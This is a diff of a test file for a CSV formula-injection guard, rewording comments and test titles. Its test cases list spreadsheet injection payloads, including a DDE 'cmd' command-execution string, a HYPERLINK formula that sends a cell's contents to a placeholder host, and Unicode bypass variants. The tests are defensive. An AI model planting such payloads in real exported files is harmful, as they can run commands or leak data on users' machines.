@@ -8,7 +8,7 @@ import { guardCell, readCell } from '#electron/lib/csv/formula-guard.ts'
 import { createRowWriter, writeCsv } from '#electron/lib/csv/row-writer.ts'
 import { tempFolder } from '../../../helpers/temp-folder.ts'
 
-/** A row of numbers from 0 to 1 that is the same at each run. */
+/** Numbers from 0 to 1, the same in each run. */
 function randomFrom(seed: number): () => number {
   let state = seed
   return () => {
@@ -39,13 +39,13 @@ const cellOf = (random: () => number): string =>
     '',
   )
 
-/** A cell as it stands in a file. */
+/** A cell as written in a file. */
 const writeCell = (text: string) =>
   writeCsv([[text]])
     .toString()
     .slice(0, -2)
 
-/** What is behind an apostrophe is a text to a spreadsheet; a number with its plus is none of its formulas. */
+/** A spreadsheet reads anything after an apostrophe as text; a number with its plus is not a formula. */
 const isHarmless = (cell: string) => /^\+[0-9]{6,15}$/.test(cell) || !/^[=+\-@\t\r\n]/.test(cell)
 
 describe('reads back any cells, however cut', () => {
@@ -98,7 +98,7 @@ describe('reads back any cells, however cut', () => {
   })
 })
 
-describe('a cell that a spreadsheet would run', () => {
+describe('a cell that a spreadsheet would execute', () => {
   const attacks = [
     ...['=1+1', '=cmd|’/C calc’!A0', '=HYPERLINK("http://x.example?"&A1,"x")', '+1+1', '-1+1', '@SUM(1)'],
     ...[
@@ -207,7 +207,7 @@ describe('the bytes of a row', () => {
 })
 
 test.each(['=1+1', '\uFEFF=1+1', '  =1+1', '\u200b@SUM(A1)', '＝1+1', '＋1', '－1', '＠A1', '\tx'])(
-  'a spreadsheet shows %j as text, and it is read back as it was',
+  'shows %j as text in a spreadsheet and reads it back unchanged',
   (text) => {
     expect(guardCell(text)).toBe(`''${text}`)
     expect(readCell(guardCell(text))).toBe(text)
@@ -215,7 +215,7 @@ test.each(['=1+1', '\uFEFF=1+1', '  =1+1', '\u200b@SUM(A1)', '＝1+1', '＋1', '
 )
 
 test.each(['+491512345678', "'=1", 'a=b', '12 = 12', '“=”'])(
-  '%j is no formula and stays as it is',
+  'leaves %j, which is not a formula, as it is',
   (text) => {
     expect(guardCell(text)).toBe(text)
   },
